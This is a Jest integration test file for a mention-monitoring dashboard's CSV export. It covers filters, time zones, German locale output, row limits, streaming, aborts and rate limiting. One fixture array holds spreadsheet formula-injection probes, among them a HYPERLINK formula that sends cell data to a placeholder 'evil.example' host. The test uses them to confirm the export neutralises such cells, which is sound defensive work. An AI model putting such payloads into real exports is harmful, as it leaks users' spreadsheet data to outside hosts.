import { beforeAll, describe, expect, test } from '@jest/globals'
import { parse } from 'csv-parse/sync'
import { DAY_MS, HOUR_MS, MINUTE_MS } from '../../../config/time/instant.ts'
import { SHEET_ROWS_MAX } from '../../../dashboards/web/contract/limits.ts'
import type { MentionCount, Mentions } from '../../../dashboards/web/contract/mentions.ts'
import type { Web } from '../../../dashboards/web/open.ts'
import { historyMatcher } from '../../../enrich/history-matches.ts'
import type { Store } from '../../../store/client.ts'
import { latestForSheet } from '../../../store/queries/latest-mentions.ts'
import { newRollupState, rollupOnce } from '../../../store/rollup.ts'
import { openSearchDesk } from '../../../store/search/desk.ts'
import { aMention, noon } from '../../house/builders.ts'
import { clickHouseOfSuite } from '../../house/clickhouse-of-suite.ts'
import { eventually } from '../../house/eventually.ts'
import { openStage, running, tell, townBrands } from './stage.ts'
import { anEntry, aTown } from './town.ts'

type Params = Readonly<Record<string, string | number>>

const clickhouse = clickHouseOfSuite()
const week = { brand: 'kavento', from: noon - 7 * DAY_MS, to: noon }
/** Far from all else that is told here. */
const oddly = { brand: 'telwyn', from: noon - 60 * DAY_MS, to: noon - 59 * DAY_MS }
const longAgo = noon - 300 * DAY_MS
const endless = { brand: 'nimbora', from: longAgo - 100 * DAY_MS, to: longAgo + DAY_MS }
const odd = [
  '=HYPERLINK("https://evil.example?"&A1)',
  '+49 30 1234567',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  'Grüße; "Zitat", Komma\nneue Zeile, ein Nichts\u0000',
  'plain = sum',
]

const open = (over: Parameters<typeof openStage>[1] = {}): Promise<Web> => {
  const { store } = clickhouse
  const search = openSearchDesk({ store, matcher: historyMatcher, now: Date.now })
  return openStage(store, { ...search, now: () => noon, ...over })
}
const ask = (web: Web, path: string, params: Params, init: RequestInit = {}): Promise<Response> =>
  fetch(`${web.url}/api/${path}?${new URLSearchParams(Object.entries(params).map(([k, v]) => [k, `${v}`]))}`, init)
const sheetIn = (text: string, delimiter = ','): Record<string, string>[] =>
  parse(text, { columns: true, bom: true, delimiter })
const sheet = async (web: Web, params: Params): Promise<Record<string, string>[]> => {
  const response = await ask(web, 'mentions.csv', params)
  expect([response.status, response.headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8'])
  return sheetIn(await response.text())
}
/** The list to its end, by the addresses of its mentions. */
const listed = async (web: Web, params: Params): Promise<string[]> => {
  const seen: string[] = []
  const path = 'query' in params ? 'search' : 'mentions'
  for (let before: string | null = ''; before !== null; ) {
    const page = { ...params, limit: 50, ...(before !== '' && { before }) }
    const { mentions, next } = (await (await ask(web, path, page)).json()) as Mentions
    seen.push(...mentions.map(({ url }) => url ?? ''))
    before = next
  }
  return seen
}

beforeAll(async () => {
  const { store } = clickhouse
  const quiet = townBrands.map((brand) => ({ ...brand, perHour: brand.perHour / 3 }))
  await tell(store, aTown(quiet, 15, noon))
  await tell(
    store,
    odd.map((text, nth) => {
      const publishedAt = oddly.from + (odd.length - nth) * MINUTE_MS
      const scored = { brand: 'telwyn', topics: ['refund', 'gone-topic'], intents: [] }
      const engagement = { likes: 3, shares: 0, views: 1_204 }
      const rating = { value: 0.625, scale: '1-5' }
      return anEntry(aMention({ nativeId: `odd-${nth}`, text, title: text, publishedAt, engagement, rating }), scored)
    }),
  )
  await store.command(
    `INSERT INTO mentions (brand, published_at, id, row_version, version, sentiment, collected_at, scored_at, text, topics)
     SELECT 'nimbora', toDateTime64(${longAgo / 1_000}, 3, 'UTC') - number * 60, generateUUIDv4(), 1, 1, 'neutral',
       now(), now(), repeat('x', 1000), ['app'] FROM numbers(${SHEET_ROWS_MAX + 10_000})`,
    running,
  )
  await rollupOnce(store, newRollupState(), running)
}, 120_000)

describe('the sheet of mentions', () => {
  test.each<[string, Params]>([
    ['nothing but the period', {}],
    ['a mood', { sentiment: 'negative' }],
    ['a topic', { topic: 'network', sentiment: 'positive' }],
    ['a place', { source: 'mastodon', channel: 'mastodon' }],
    ['a topic within a place', { source: 'reddit', channel: 'r/telecom', topic: 'app' }],
    ['a search', { query: 'hotline OR Winter*', sentiment: 'negative' }],
    ['what nobody said', { topic: 'delivery', sentiment: 'negative' }],
  ])('holds what the list holds, in its order, narrowed down by %s', async (_, filter) => {
    await using web = await open()
    const rows = await sheet(web, { ...week, ...filter })
    expect(rows.map((row) => row['URL'])).toEqual(await listed(web, { ...week, ...filter }))
    if ('query' in filter) return
    const { mentions } = (await (await ask(web, 'mentions/count', { ...week, ...filter })).json()) as MentionCount
    if (mentions !== null) expect(rows).toHaveLength(mentions)
  })

  test('has one column of times for a reader in UTC', async () => {
    await using web = await open()
    const head = (await (await ask(web, 'mentions.csv', { ...oddly, zone: 'UTC' })).text()).split('\r\n')[0]
    expect(head?.match(/Time/g)).toHaveLength(1)
  })

  test('tells of each mention what the page shows, its time in the zone of the reader and in UTC', async () => {
    await using web = await open()
    const asked = { ...oddly, zone: 'Asia/Kathmandu' }
    const response = await ask(web, 'mentions.csv', asked)
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="telwyn_2026-09-14_2026-09-15.csv"')
    const bytes = Buffer.from(await response.arrayBuffer())
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(sheetIn(bytes.toString()).at(-1)).toEqual({
      'Time (Asia/Kathmandu)': '2026-09-14 17:46:00',
      'Time (UTC)': '2026-09-14 12:01:00',
      Brand: 'Telwyn',
      Source: 'test',
      Channel: '',
      Voice: '00ff00ff00ff00ff',
      Title: 'plain = sum',
      Text: 'plain = sum',
      URL: '',
      Mood: 'positive',
      Score: '0.600',
      Topics: 'refund, gone-topic',
      Intents: '',
      Emotions: 'joy',
      Rating: '3.5',
      'Rating scale': '1–5',
      Likes: '3',
      Comments: '',
      Shares: '0',
      Views: '1204',
      Reach: '120',
      Language: 'en',
    })
  })

  test('keeps a text in one cell, and what begins like a formula from being worked out', async () => {
    await using web = await open()
    const rows = await sheet(web, oddly)
    const harmless = odd.map((text, nth) => (nth < 5 ? `'${text}` : text.replace('\u0000', '')))
    expect(rows.map((row) => row['Text'])).toEqual(harmless)
    expect(rows.map((row) => row['Title'])).toEqual(harmless)
  })

  test('opens by itself in a German spreadsheet: semicolons, decimal commas, German words', async () => {
    await using web = await open()
    const response = await ask(web, 'mentions.csv', { ...oddly, language: 'de', zone: 'Europe/Berlin' })
    const [row] = sheetIn(await response.text(), ';')
    expect(row).toMatchObject({
      'Zeit (Europe/Berlin)': '2026-09-14 14:07:00',
      Stimmung: 'positiv',
      Wertung: '0,600',
      Gefühle: 'Freude',
      Bewertung: '3,5',
      Aufrufe: '1204',
    })
  })

  test('answers what is wrong with the question instead of a sheet', async () => {
    await using web = await open()
    const refused = async (more: Params) => (await ask(web, 'mentions.csv', { ...week, ...more })).json()
    expect(await refused({ brand: 'nobody' })).toMatchObject({ code: 'SL_NOT_FOUND' })
    expect(await refused({ zone: 'Mars/Olympus' })).toMatchObject({ code: 'SL_REQUEST_INVALID' })
    expect(await refused({ query: 'hotline AND (' })).toMatchObject({ message: expect.stringContaining('bracket') })
    await using deaf = await openStage(clickhouse.store)
    const unsearched = await ask(deaf, 'mentions.csv', { ...week, query: 'hotline' })
    expect(await unsearched.json()).toMatchObject({ code: 'SL_NOT_FOUND' })
  })
})

test('a list narrowed down twice reaches back beyond a thousand hours of which none fits', async () => {
  const { store } = clickhouse
  const far = noon - 200 * DAY_MS
  const said = (hour: number, source: string) => {
    const mention = aMention({ source, nativeId: `far-${hour}`, publishedAt: far - hour * HOUR_MS, channel: 'c' })
    return anEntry({ ...mention, url: `https://far.example/${hour}` }, { brand: 'telwyn', topics: ['tariff'] })
  }
  await tell(store, [...Array.from({ length: 1_100 }, (_, hour) => said(hour, 'forum')), said(1_101, 'reviews')])
  await using web = await open()
  const asked = { brand: 'telwyn', from: far - 60 * DAY_MS, to: far + HOUR_MS, topic: 'tariff' }
  const rare = { ...asked, source: 'reviews', channel: 'c' }
  expect(await listed(web, rare)).toEqual(['https://far.example/1101'])
  expect(await sheet(web, rare)).toHaveLength(1)
  expect(await sheet(web, asked)).toHaveLength(1_101)
})

describe('a long sheet', () => {
  /** Notes how often the store is asked for rows; `fail` at the nth time. */
  const counting = (asks: { count: number }, fail = Number.POSITIVE_INFINITY): Store => ({
    ...clickhouse.store,
    ask: async (question, params, signal) => {
      if ((question as unknown) === latestForSheet && ++asks.count === fail) throw new Error('away')
      return clickhouse.store.ask(question, params, signal)
    },
  })

  test('ends at its bound, with the newest', async () => {
    await using web = await open()
    const rows = await sheet(web, endless)
    expect(rows).toHaveLength(SHEET_ROWS_MAX)
    const times = rows.map((row) => row['Time (UTC)'] ?? '')
    expect(times[0]).toBe(new Date(longAgo).toISOString().slice(0, 19).replace('T', ' '))
    expect(times).toEqual(times.toSorted().reverse())
  })

  test('is asked of the store as it is read, and no more of it once its reader has left', async () => {
    const asks = { count: 0 }
    await using web = await open({ store: counting(asks) })
    const leaving = new AbortController()
    const response = await ask(web, 'mentions.csv', endless, { signal: leaving.signal })
    expect(response.status).toBe(200)
    // What nobody reads fills the buffers on the way, then no more is asked for.
    let before = -1
    while (before !== asks.count) {
      before = asks.count
      await new Promise((resolve) => setTimeout(resolve, 1_000))
    }
    expect(before).toBeLessThan(30)
    leaving.abort()
    // The four places are free again.
    await eventually(async () => {
      const four = await Promise.all(Array.from({ length: 4 }, () => ask(web, 'mentions.csv', oddly)))
      expect(four.map(({ status }) => status)).toEqual([200, 200, 200, 200])
    })
    expect(asks.count).toBeLessThan(30 + 20)
  })

  test('that breaks off does not pass for a whole one', async () => {
    const asks = { count: 0 }
    await using web = await open({ store: counting(asks, 5) })
    const response = await ask(web, 'mentions.csv', endless)
    await expect(response.text()).rejects.toThrow('terminated')
    expect((await ask(web, 'mentions.csv', oddly)).status).toBe(200)
  })

  test('is not handed out to more than four at once, nor again and again', async () => {
    await using web = await open()
    const leaving = new AbortController()
    const { signal } = leaving
    const readers = await Promise.all(Array.from({ length: 4 }, () => ask(web, 'mentions.csv', endless, { signal })))
    expect(readers.map(({ status }) => status)).toEqual([200, 200, 200, 200])
    const refused = await ask(web, 'mentions.csv', oddly)
    expect([refused.status, await refused.json()]).toEqual([
      429,
      expect.objectContaining({ code: 'SL_REQUEST_TOO_MANY' }),
    ])
    leaving.abort()
    await eventually(async () => expect((await ask(web, 'mentions.csv', oddly)).status).toBe(200))
    const more = await Promise.all(Array.from({ length: 20 }, () => ask(web, 'mentions.csv', { brand: 'nobody' })))
    expect(more.map(({ status }) => status)).toContain(429)
    expect((await ask(web, 'setup', {})).status).toBe(200)
  })
})
